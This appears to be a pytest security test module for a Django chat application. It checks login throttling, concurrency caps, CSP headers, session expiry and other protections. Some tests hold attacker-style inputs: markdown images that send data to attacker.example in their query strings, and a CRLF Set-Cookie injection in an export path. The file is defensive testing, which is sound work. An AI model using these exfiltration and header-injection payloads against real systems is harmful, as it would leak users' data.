"""Attacker tests: each item of the security review, driven through HTTP from outside. Most run against
the real ASGI application in this process; the client-address, DEBUG-default, HSTS and PostgreSQL
concurrency tests run against real daphne processes started as the README's production commands start
them."""

from __future__ import annotations

import asyncio
import os
import re
import threading
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import aiohttp
import psycopg
import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import User
from django.contrib.sessions.backends.db import SessionStore
from django.contrib.sessions.models import Session
from django.utils import timezone

from chat.middleware import LAST_SEEN_KEY
from chat.models import Conversation, Message
from chat.rendering import is_local_image, render_markdown
from chatsite.sessions import SessionStore as ChatsiteSessionStore
from tests.support.asgi_client import AsgiClient, Response, session_cookies
from tests.support.cluster import fresh_database, services_or_skip
from tests.support.edge import PASSWORD, production_env, start_edge_server
from tests.support.fake_anthropic import End, FakeAnthropic, Text, Wait
from tests.support.hashers import CountingMD5Hasher
from tests.support.live_server import DaphneProcess
from tests.support.streams import eventually, follow, start_conversation

pytestmark = pytest.mark.django_db(transaction=True)

PG_URL = os.environ.get("DATABASE_URL_TEST", "postgres://postgres@127.0.0.1:5432/test")
LOCKED_OUT = "Too many failed login attempts"


async def login(
    client: AsgiClient, username: str, password: str, *, path: str = "/accounts/login/"
) -> Response:
    data: dict[str, str | list[str]] = {"username": username, "password": password}
    if path.startswith("/admin/"):
        data["next"] = "/admin/"
    return await client.request("POST", path, data=data, htmx=False)


async def signup(client: AsgiClient, username: str) -> Response:
    password = "a-long-pass-phrase-9"
    data: dict[str, str | list[str]] = {"username": username, "password1": password, "password2": password}
    return await client.request("POST", "/accounts/signup/", data=data, htmx=False)


# --- 1. Login, admin login and sign-up are throttled ----------------------------------------------------


async def test_login_locks_a_username_after_five_failures_and_then_refuses_even_the_right_password(
    asgi_app: Any, alice: User
) -> None:
    # Today 30 wrong passwords are all answered, then the right one works. Each guess comes from a
    # different address: the username itself is limited. The fifth failure locks it.
    answered = []
    for attempt in range(30):
        response = await login(AsgiClient(asgi_app, client_ip=f"198.51.100.{attempt}"), "alice", "guess")
        answered.append(response.status)
    assert answered == [200] * 4 + [429] * 26
    attacker = AsgiClient(asgi_app, client_ip="198.51.100.200")
    response = await login(attacker, "alice", PASSWORD)
    assert response.status == 429
    assert LOCKED_OUT in response.text and "Try again in 15 minutes." in response.text
    assert response.headers["retry-after"] == "900"
    assert "sessionid" not in attacker.cookies
    assert (await attacker.request("GET", "/", htmx=False)).status == 302  # not signed in


async def test_login_locks_a_client_address_that_guesses_many_usernames(asgi_app: Any, alice: User) -> None:
    attacker = AsgiClient(asgi_app, client_ip="203.0.113.7")
    statuses = [(await login(attacker, f"someone{number}", "guess")).status for number in range(5)]
    assert statuses == [200] * 4 + [429]
    response = await login(attacker, "alice", PASSWORD)
    assert response.status == 429 and LOCKED_OUT in response.text
    # Alice, from her own address, is not locked out: her username had no failure.
    assert (await login(AsgiClient(asgi_app, client_ip="192.0.2.10"), "alice", PASSWORD)).status == 302


async def test_a_locked_out_login_costs_no_password_hashing(
    asgi_app: Any, alice: User, settings: Any
) -> None:
    settings.PASSWORD_HASHERS = ["tests.support.hashers.CountingMD5Hasher"]
    for attempt in range(5):
        await login(AsgiClient(asgi_app, client_ip=f"198.51.100.{attempt}"), "alice", "guess")
    CountingMD5Hasher.calls = 0
    for attempt in range(20):
        address = f"198.51.100.{100 + attempt}"
        assert (await login(AsgiClient(asgi_app, client_ip=address), "alice", "guess")).status == 429
    assert CountingMD5Hasher.calls == 0
    # The control: an attempt that is not locked out does hash (a username with no failures yet).
    assert (await login(AsgiClient(asgi_app, client_ip="192.0.2.1"), "bob-unknown", "guess")).status == 200
    assert CountingMD5Hasher.calls > 0


@pytest.fixture
def staff(db: None) -> User:
    return User.objects.create_superuser("root", password=PASSWORD)


async def test_admin_login_is_throttled(asgi_app: Any, staff: User) -> None:
    for attempt in range(4):
        client = AsgiClient(asgi_app, client_ip=f"198.51.100.{attempt}")
        response = await login(client, "root", "guess", path="/admin/login/")
        assert response.status == 200 and "Please enter the correct username and password" in response.text
    client = AsgiClient(asgi_app, client_ip="198.51.100.4")
    assert (await login(client, "root", "guess", path="/admin/login/")).status == 429
    client = AsgiClient(asgi_app, client_ip="198.51.100.99")
    response = await login(client, "root", PASSWORD, path="/admin/login/")
    assert response.status == 429 and LOCKED_OUT in response.text
    assert (await client.request("GET", "/admin/", htmx=False)).status == 302  # still not signed in


async def test_signup_is_throttled_per_client_address(asgi_app: Any, settings: Any) -> None:
    settings.SIGNUPS_PER_IP_PER_HOUR = 3
    for number in range(3):
        response = await signup(AsgiClient(asgi_app, client_ip="203.0.113.9"), f"new{number}")
        assert response.status == 302, response.text
    response = await signup(AsgiClient(asgi_app, client_ip="203.0.113.9"), "new3")
    assert response.status == 429
    assert "Too many sign-up attempts" in response.text and "Try again in 60 minutes." in response.text
    assert not await User.objects.filter(username="new3").aexists()
    # Another address is not affected.
    assert (await signup(AsgiClient(asgi_app, client_ip="192.0.2.20"), "new4")).status == 302


@pytest.fixture(scope="module")
def static_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One collectstatic (DEBUG off needs its manifest) for every server process of this module."""
    return tmp_path_factory.mktemp("static")


@pytest.fixture(scope="module")
def edge(tmp_path_factory: pytest.TempPathFactory, static_root: Path) -> Iterator[DaphneProcess]:
    """One production-like daphne process (--proxy-headers, DEBUG at its default), on its own SQLite."""
    data_dir = tmp_path_factory.mktemp("edge")
    env = production_env(data_dir, STATIC_ROOT=str(static_root), LOGIN_FAILURE_LIMIT="3")
    server = start_edge_server(env, data_dir, "edge", "carol", "dave")
    yield server
    server.stop()


async def _edge_login(base: str, username: str, password: str, *, forwarded_for: str) -> int:
    """A login through the documented nginx, which overwrites X-Forwarded-For with the client's address."""
    headers = {"X-Forwarded-For": forwarded_for}
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as session:
        async with session.get(base + "/accounts/login/", headers=headers) as response:
            page = await response.text()
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
        assert token, page[:300]
        data = {"username": username, "password": password, "csrfmiddlewaretoken": token.group(1)}
        async with session.post(
            base + "/accounts/login/", data=data, headers=headers, allow_redirects=False
        ) as response:
            return response.status


async def test_client_address_behind_the_proxy_is_the_forwarded_one(edge: DaphneProcess) -> None:
    """Behind nginx every request comes from 127.0.0.1. With --proxy-headers the limit applies to the
    address nginx forwards: one client is locked out, another one is not."""
    statuses = [
        await _edge_login(edge.url, f"nobody{number}", "guess", forwarded_for="203.0.113.50")
        for number in range(3)
    ]
    assert statuses == [200, 200, 429]  # LOGIN_FAILURE_LIMIT=3 on this server
    assert await _edge_login(edge.url, "carol", PASSWORD, forwarded_for="203.0.113.50") == 429
    assert await _edge_login(edge.url, "carol", PASSWORD, forwarded_for="192.0.2.51") == 302


# --- 2. The per-user cap on concurrent replies holds on PostgreSQL -------------------------------------


@pytest.fixture
def pg_database() -> Iterator[str]:
    services_or_skip(PG_URL)
    with fresh_database(PG_URL) as url:
        yield url


async def _lock_waiters(url: str) -> int:
    """Backends of the server's database blocked on a lock (a row or table lock held by someone else)."""
    async with await psycopg.AsyncConnection.connect(url, autocommit=True) as conn:
        cursor = await conn.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
            "AND wait_event_type = 'Lock' AND pid <> pg_backend_pid()"
        )
        row = await cursor.fetchone()
    return int(row[0]) if row else 0


@pytest.mark.postgres
async def test_concurrent_reply_cap_holds_for_parallel_new_conversations_on_postgresql(
    pg_database: str, tmp_path: Path, static_root: Path
) -> None:
    """Ten parallel first messages from one user, against a real daphne on PostgreSQL. Every request is
    held at its first write into the messages table (the test holds a SHARE lock on it) until at least
    four are waiting at once, so the race window is open for certain; then all go. With the capacity
    check under a lock on the user's row, exactly the cap is accepted and nothing of the rest is saved."""
    cap, requests = 3, 10
    gate = threading.Event()
    upstream = FakeAnthropic(default_script=[Wait(gate, timeout=60), Text("Done."), End()]).start()
    env = production_env(
        tmp_path,
        STATIC_ROOT=str(static_root),
        DATABASE_URL=pg_database,
        DATABASE_POOL_MAX="30",
        CHAT_MAX_CONCURRENT_PER_USER=str(cap),
        # Every start in progress at once, as in several processes (one process lets only
        # CHAT_MAX_CONCURRENT_STARTS do their work together): the race is the database's to settle.
        CHAT_MAX_CONCURRENT_STARTS="0",
        CHAT_PROVIDER="anthropic",
        ANTHROPIC_API_KEY="test-key",
        ANTHROPIC_BASE_URL=upstream.url,
        CHAT_UPSTREAM_MAX_RETRIES="0",
    )
    server = start_edge_server(env, tmp_path, "pg", "erin")
    client = aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True))
    try:
        async with client.get(server.url + "/accounts/login/") as response:
            token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', await response.text())
        assert token
        data = {"username": "erin", "password": PASSWORD, "csrfmiddlewaretoken": token.group(1)}
        async with client.post(server.url + "/accounts/login/", data=data, allow_redirects=False) as response:
            assert response.status == 302
        csrf = next(c.value for c in client.cookie_jar if c.key == "csrftoken")

        async def start(number: int) -> tuple[int, str]:
            headers = {"X-CSRFToken": csrf, "HX-Request": "true"}
            async with client.post(
                server.url + "/c/start/", data={"text": f"Parallel {number}"}, headers=headers
            ) as response:
                return response.status, await response.text()

        blocker = await psycopg.AsyncConnection.connect(pg_database)
        await blocker.execute("LOCK TABLE chat_message IN SHARE MODE")
        tasks = [asyncio.create_task(start(number)) for number in range(requests)]
        await eventually(lambda: _enough(pg_database), timeout=30)
        await blocker.rollback()  # releases the table lock: every held request goes on
        await blocker.close()
        results = await asyncio.gather(*tasks)
    finally:
        await client.close()
        gate.set()
        server.stop()
        upstream.stop()
    accepted = [text for status, text in results if status == 200]
    refused = [text for status, text in results if status != 200]
    assert len(accepted) == cap, [status for status, _ in results]
    assert len(refused) == requests - cap
    assert all(f"You already have {cap} replies being written" in text for text in refused)
    with psycopg.connect(pg_database) as conn:
        conversations = conn.execute("SELECT count(*) FROM chat_conversation").fetchone()
        messages = conn.execute(
            "SELECT role, count(*) FROM chat_message GROUP BY role ORDER BY role"
        ).fetchall()
    assert conversations == (cap,)
    assert messages == [("assistant", cap), ("user", cap)]


async def _enough(url: str) -> bool:
    return await _lock_waiters(url) >= 4


# --- 3. Messages per user per minute ----------------------------------------------------------------


async def test_messages_per_minute_are_limited_with_a_clear_message_and_nothing_saved(
    alice_client: AsgiClient, bob_client: AsgiClient, upstream: FakeAnthropic, background: Any, settings: Any
) -> None:
    settings.CHAT_MESSAGES_PER_MINUTE = 3
    conversation, _, path = await start_conversation(alice_client, "one")
    await follow(alice_client, path)
    for text in ("two", "three"):
        response = await alice_client.request("POST", f"/c/{conversation.pk}/send/", data={"text": text})
        assert response.status == 200, response.text
        await follow(alice_client, re.search(r'sse-connect="([^"]+)"', response.text).group(1))  # type: ignore[union-attr]
    messages, conversations = await Message.objects.acount(), await Conversation.objects.acount()
    response = await alice_client.request("POST", f"/c/{conversation.pk}/send/", data={"text": "four"})
    assert response.status == 429
    assert "You can send 3 messages a minute. Nothing was sent; try again in" in response.text
    assert 1 <= int(response.headers["retry-after"]) <= 60
    response = await alice_client.request("POST", "/c/start/", data={"text": "five"})
    assert response.status == 429 and "Nothing was sent" in response.text
    assert await Message.objects.acount() == messages
    assert await Conversation.objects.acount() == conversations
    # The limit is per user: Bob is not affected.
    _, _, bob_path = await start_conversation(bob_client, "Bob's first")
    await follow(bob_client, bob_path)


async def test_a_start_refused_for_another_reason_does_not_count_against_the_rate(
    alice_client: AsgiClient, upstream: FakeAnthropic, background: Any, settings: Any
) -> None:
    settings.CHAT_MESSAGES_PER_MINUTE = 2
    settings.CHAT_MAX_CONCURRENT_PER_USER = 1
    gate = threading.Event()
    upstream.enqueue(Text("Held."), Wait(gate, timeout=30), End())
    _, _, path = await start_conversation(alice_client, "one")  # counted: 1 of 2
    for _ in range(3):  # refused by the concurrency cap: not counted
        response = await alice_client.request("POST", "/c/start/", data={"text": "again"})
        assert response.status == 422 and "You already have 1 reply being written" in response.text
    gate.set()
    await follow(alice_client, path)
    _, _, path = await start_conversation(alice_client, "two")  # counted: 2 of 2
    await follow(alice_client, path)
    response = await alice_client.request("POST", "/c/start/", data={"text": "three"})
    assert response.status == 429


# --- 4. Remote images in model output do not load ---------------------------------------------------


def test_remote_images_render_as_links_and_local_ones_stay_images() -> None:
    html = render_markdown(
        "![chart](https://attacker.example/c.png?d=secret) ![](//attacker.example/x) "
        "![logo](/static/chat/logo.png) ![dot](data:image/png;base64,iVBORw0KGgo=)"
    )
    assert (
        '<a href="https://attacker.example/c.png?d=secret" rel="noopener noreferrer nofollow">chart</a>'
        in html
    )
    assert (
        '<a href="//attacker.example/x" rel="noopener noreferrer nofollow">//attacker.example/x</a>' in html
    )
    assert '<img src="/static/chat/logo.png" alt="logo">' in html
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">' in html
    assert "attacker.example" not in "".join(re.findall(r"<img[^>]*>", html))


def test_is_local_image() -> None:
    assert is_local_image("/static/x.png") and is_local_image("data:image/webp;base64,AAAA")
    for url in ("https://a.example/x", "//a.example/x", "/\\a.example/x", "x.png", "data:text/html,hi"):
        assert not is_local_image(url), url


async def test_a_reply_with_a_remote_image_shows_a_link_and_loads_nothing(
    alice_client: AsgiClient, upstream: FakeAnthropic, background: Any
) -> None:
    upstream.enqueue(Text("Here: ![status](https://attacker.example/p.png?d=the-secret-plan)"), End())
    conversation, _, path = await start_conversation(alice_client, "Summarise my plan")
    _, events = await follow(alice_client, path)
    page = (await alice_client.request("GET", f"/c/{conversation.pk}/", htmx=False)).text
    for html in (events[-1].data, page):
        assert '<a href="https://attacker.example/p.png?d=the-secret-plan"' in html
        assert not re.search(r"<img[^>]*attacker\.example", html)


# --- 5 and 6. Content-Security-Policy, Permissions-Policy, Cache-Control --------------------------------


@pytest.fixture
def pages(alice: User) -> list[str]:
    conversation = Conversation.objects.create(user=alice, title="Plans")
    Message.objects.create(conversation=conversation, role="user", content="Hello?")
    Message.objects.create(conversation=conversation, role="assistant", content="Hi.", status="complete")
    c = conversation.pk
    return [
        "/",
        f"/c/{c}/",
        f"/c/{c}/delete/",
        "/search/?q=pl",
        "/accounts/password/",
        "/accounts/password/done/",
        "/usage/",
        f"/c/{c}/export.md",
        f"/c/{c}/export.json",
    ]


def _policy(header: str) -> dict[str, list[str]]:
    directives = [part.split() for part in header.split(";") if part.strip()]
    return {words[0]: words[1:] for words in directives}


def _assert_strict_headers(response: Response, where: str) -> None:
    csp = response.headers.get("content-security-policy", "")
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp, where
    policy = _policy(csp)
    assert policy.get("script-src") == ["'self'"], where
    assert policy.get("style-src") == ["'self'"], where
    assert sorted(policy.get("img-src", [])) == sorted(["'self'", "data:"]), where
    assert policy.get("frame-ancestors") == ["'none'"], where
    assert policy.get("base-uri") == ["'none'"], where
    assert policy.get("form-action") == ["'self'"], where
    permissions = response.headers.get("permissions-policy", "")
    for feature in ("camera=()", "microphone=()", "geolocation=()", "payment=()", "usb=()"):
        assert feature in permissions, (where, permissions)


async def test_every_page_has_a_strict_csp_and_permissions_policy(
    asgi_app: Any, alice_client: AsgiClient, pages: list[str]
) -> None:
    anonymous = AsgiClient(asgi_app)
    for path in ["/accounts/login/", "/accounts/signup/", "/admin/login/", "/no-such-page/"]:
        _assert_strict_headers(await anonymous.request("GET", path, htmx=False), path)
    for path in pages:
        response = await alice_client.request("GET", path, htmx=False)
        assert response.status == 200, path
        _assert_strict_headers(response, path)


def test_templates_have_no_inline_script_style_or_handler() -> None:
    """What the CSP forbids must not be in any template: it would be blocked in the browser."""
    templates = Path(__file__).resolve().parent.parent / "templates"
    for template in templates.rglob("*.html"):
        text = template.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=)", text), template
        assert not re.search(r"<style\b|\sstyle=", text), template
        assert not re.search(r"\son[a-z]+=", text), template


async def test_authenticated_pages_streams_and_exports_are_private_no_store(
    alice_client: AsgiClient, pages: list[str], upstream: FakeAnthropic, background: Any
) -> None:
    for path in pages:
        response = await alice_client.request("GET", path, htmx=False)
        directives = {d.strip() for d in response.headers.get("cache-control", "").split(",")}
        assert {"private", "no-store"} <= directives, (path, directives)
    _, _, stream_path = await start_conversation(alice_client)
    stream = await alice_client.open_stream(stream_path)
    directives = {d.strip() for d in stream.headers.get("cache-control", "").split(",")}
    assert {"private", "no-store"} <= directives
    _assert_strict_headers(Response(stream.status, stream.headers, b""), stream_path)
    await stream.events_until("done")
    await stream.drain()


# --- 7 and 8. DEBUG is off unless asked for; HSTS preload and includeSubDomains are opt-in -------------


async def test_a_deploy_that_does_not_set_debug_serves_no_debug_page(edge: DaphneProcess) -> None:
    async with aiohttp.ClientSession() as session:
        async with session.get(edge.url + "/no-such-page/?token=secret") as response:
            body = await response.text()
            assert response.status == 404
    assert "URLconf" not in body and "DEBUG" not in body and "secret" not in body


async def test_hsts_is_sent_without_preload_or_subdomains_by_default(edge: DaphneProcess) -> None:
    # nginx terminates TLS and says so in X-Forwarded-Proto; daphne's --proxy-headers passes it on (only
    # with X-Forwarded-For, which the documented nginx always sends).
    headers = {"X-Forwarded-For": "192.0.2.60", "X-Forwarded-Proto": "https"}
    async with aiohttp.ClientSession() as session:
        async with session.get(edge.url + "/accounts/login/", headers=headers) as response:
            assert response.status == 200
            assert response.headers["Strict-Transport-Security"] == "max-age=31536000"


# --- 9. Exports: only .md and .json ------------------------------------------------------------------


async def test_exports_accept_only_md_and_json(alice_client: AsgiClient, pages: list[str]) -> None:
    conversation = await Conversation.objects.aget(title="Plans")
    base = f"/c/{conversation.pk}/export"
    markdown = await alice_client.request("GET", base + ".md", htmx=False)
    assert markdown.status == 200 and markdown.headers["content-type"].startswith("text/markdown")
    exported = await alice_client.request("GET", base + ".json", htmx=False)
    assert exported.status == 200 and exported.headers["content-type"].startswith("application/json")
    for suffix in (".html", ".exe", ".md%0D%0A", ".md%0D%0ASet-Cookie:%20x=1", ".json.html"):
        response = await alice_client.request("GET", base + suffix, htmx=False)
        assert response.status == 404, (suffix, response.status)


# --- 10. Accounts: password change, idle timeout, logout ends the session's streams --------------------


@pytest.fixture
def alice_twice(asgi_app: Any, alice: User) -> tuple[AsgiClient, AsgiClient]:
    return AsgiClient(asgi_app, session_cookies(alice)), AsgiClient(asgi_app, session_cookies(alice))


async def test_password_change_page(asgi_app: Any, alice_twice: tuple[AsgiClient, AsgiClient]) -> None:
    alice_client, other_session = alice_twice
    page = await alice_client.request("GET", "/accounts/password/", htmx=False)
    assert page.status == 200 and 'name="old_password"' in page.text
    new = "a-brand-new-pass-phrase-7"
    response = await alice_client.request(
        "POST",
        "/accounts/password/",
        data={"old_password": PASSWORD, "new_password1": new, "new_password2": new},
        htmx=False,
    )
    assert response.status == 302 and response.headers["location"] == "/accounts/password/done/"
    assert (await alice_client.request("GET", "/", htmx=False)).status == 200  # this session stays in
    assert (await other_session.request("GET", "/", htmx=False)).status == 302  # other sessions are out
    assert (await login(AsgiClient(asgi_app, client_ip="192.0.2.1"), "alice", PASSWORD)).status == 200
    assert (await login(AsgiClient(asgi_app, client_ip="192.0.2.2"), "alice", new)).status == 302


async def test_password_change_attempts_are_throttled_per_user(alice_client: AsgiClient) -> None:
    """Each attempt checks the old password (a hash), so a signed-in user could use the form as a CPU
    lever: after LOGIN_FAILURE_LIMIT attempts it is refused before any check, even with the right password."""
    new = "a-brand-new-pass-phrase-7"
    data: dict[str, str | list[str]] = {"old_password": "guess", "new_password1": new, "new_password2": new}
    for _ in range(5):
        response = await alice_client.request("POST", "/accounts/password/", data=data, htmx=False)
        assert response.status == 200 and "Your old password was entered incorrectly" in response.text
    data["old_password"] = PASSWORD
    response = await alice_client.request("POST", "/accounts/password/", data=data, htmx=False)
    assert response.status == 429
    assert (
        "Too many password change attempts" in response.text and "Try again in 15 minutes." in response.text
    )
    assert await (await User.objects.aget(username="alice")).acheck_password(PASSWORD)  # unchanged


def _session(key: str) -> Session:
    return Session.objects.get(session_key=key)


async def test_sessions_expire_after_the_idle_time_and_activity_renews_them(
    asgi_app: Any, alice: User, settings: Any
) -> None:
    client = AsgiClient(asgi_app, client_ip="192.0.2.3")
    assert (await login(client, "alice", PASSWORD)).status == 302
    key = client.cookies["sessionid"]
    idle = timedelta(minutes=settings.SESSION_IDLE_MINUTES)
    session = await Session.objects.aget(session_key=key)
    assert abs(session.expire_date - (timezone.now() + idle)) < timedelta(minutes=1)

    # Nearly idle for the whole time (last renewed two minutes ago, 30 s left): one request renews it.
    store = SessionStore(session_key=key)
    await store.aload()
    await store.aset(LAST_SEEN_KEY, int(timezone.now().timestamp()) - 120)
    await store.asave()
    await Session.objects.filter(session_key=key).aupdate(expire_date=timezone.now() + timedelta(seconds=30))
    assert (await client.request("GET", "/", htmx=False)).status == 200
    session = await Session.objects.aget(session_key=key)
    assert session.expire_date - timezone.now() > idle - timedelta(minutes=1)

    # Idle past the limit: the next request is signed out.
    await Session.objects.filter(session_key=key).aupdate(expire_date=timezone.now() - timedelta(seconds=1))
    response = await client.request("GET", "/", htmx=False)
    assert response.status == 302 and response.headers["location"].startswith("/accounts/login/")


async def test_logout_ends_that_sessions_open_streams(
    alice_twice: tuple[AsgiClient, AsgiClient], upstream: FakeAnthropic, background: Any
) -> None:
    browser, other_browser = alice_twice
    gate = threading.Event()
    upstream.enqueue(Text("Before. "), Wait(gate, timeout=30), Text("After."), End())
    _, _, path = await start_conversation(browser)
    stream = await browser.open_stream(path)
    other = await other_browser.open_stream(path)
    assert (await stream.next_event()).data == "Before. "
    assert (await other.next_event()).data == "Before. "
    response = await browser.request("POST", "/accounts/logout/", data={}, htmx=False)
    assert response.status == 302
    event = await stream.next_event(timeout=10)
    assert event.event == "ended" and 'data-reason="logged_out"' in event.data
    await stream.drain()  # and the response ends
    gate.set()
    events = await other.events_until("done")  # the other session still follows the reply
    assert "ended" not in {e.event for e in events}


def test_the_session_engine_reads_what_djangos_database_sessions_read(alice: User) -> None:
    """`chatsite.sessions` reads the row with its own SELECT: a live session loads the same data as
    Django's database store; an expired or missing row, or one whose signature fails, is an empty session,
    and a missing or expired row also drops the key (saving then makes a new one), as Django's does."""
    assert django_settings.SESSION_ENGINE == "chatsite.sessions"
    live = SessionStore()
    live.update({"_auth_user_id": str(alice.pk), "note": "é ✓"})
    live.create()
    live.save()
    ours = ChatsiteSessionStore(session_key=live.session_key)
    expected = {"_auth_user_id": str(alice.pk), "note": "é ✓"}
    assert ours.load() == SessionStore(session_key=live.session_key).load() == expected
    assert ours.session_key == live.session_key

    Session.objects.filter(session_key=live.session_key).update(expire_date=timezone.now())
    for engine in (ChatsiteSessionStore, SessionStore):
        store = engine(session_key=live.session_key)
        assert store.load() == {} and store.session_key is None
    missing = ChatsiteSessionStore(session_key="x" * 32)
    assert missing.load() == {} and missing.session_key is None

    tampered = SessionStore()
    tampered["_auth_user_id"] = str(alice.pk)
    tampered.create()
    row = Session.objects.get(session_key=tampered.session_key)
    row.session_data = row.session_data[:-4] + "AAAA"  # the signature no longer matches
    row.save()
    assert ChatsiteSessionStore(session_key=tampered.session_key).load() == {}
